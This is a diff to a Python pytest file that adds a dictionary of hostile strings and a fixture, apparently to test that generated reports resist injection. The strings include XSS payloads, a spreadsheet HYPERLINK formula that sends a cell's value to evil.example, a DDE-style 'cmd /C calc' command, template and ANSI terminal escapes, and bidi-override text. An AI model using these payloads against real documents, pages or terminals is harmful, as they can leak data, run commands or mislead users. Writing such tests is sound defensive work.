@@ -176,3 +176,32 @@ def make_report() -> Callable[[str, str, str], Report]:
         return Report(first, second, tuple(identify([finding])), ())
 
     return make
+
+
+HOSTILE = {
+    "script": '<script>alert("40")</script> & </style><img src=x onerror=alert(1)> 40 people',
+    "template": "{{ 7 * 7 }} {% raw %} 40 {# gone #}",
+    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click") 40 people',
+    "command": "@SUM(1+1)*cmd|' /C calc'!A0 40",
+    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\link \x9b2J 40\x07\x08\x00",
+    "markup": "[bold red]40[/bold red] [link=http://evil.example]x[/link] [/] :smile: \\[",
+    "links": "![40](http://evil.example/x.png) [40](javascript:alert(1)) <http://a.example> www.b.example",
+    "emphasis": "**bold** _it_ `code` # not ~~gone~~ | cell | $x$ @someone 40",
+    "blocks": "# 40 heads",
+    "list": "1. 40 items",
+    "rule": "--- 40",
+    "bidi": "safe \u202e40 evil\u202c \u2066x\u2069 \u200f 40",
+    "separators": "one\u2028two\u2029 40 \x85 three\x0b\x0c",
+    "surrogate": "half \ud83d a pair 40",
+    "long": "word " * 10_000 + "40 " + "unbroken" * 6_000,
+    "unbroken": "x" * 50_000 + "40" + "y" * 50_000,
+    "quotes": "\"40\" 'forty' `40`",
+    "crlf": "first line\r\nsecond 40 line\rthird",
+}
+
+
+@pytest.fixture(params=HOSTILE)
+def hostile(request: pytest.FixtureRequest, make_report: Callable[..., Report]) -> Report:
+    """A report whose articles, explanation and file names are made to break out of the format."""
+    text = HOSTILE[request.param]
+    return make_report(text, "plain 40", "40", text[:300])
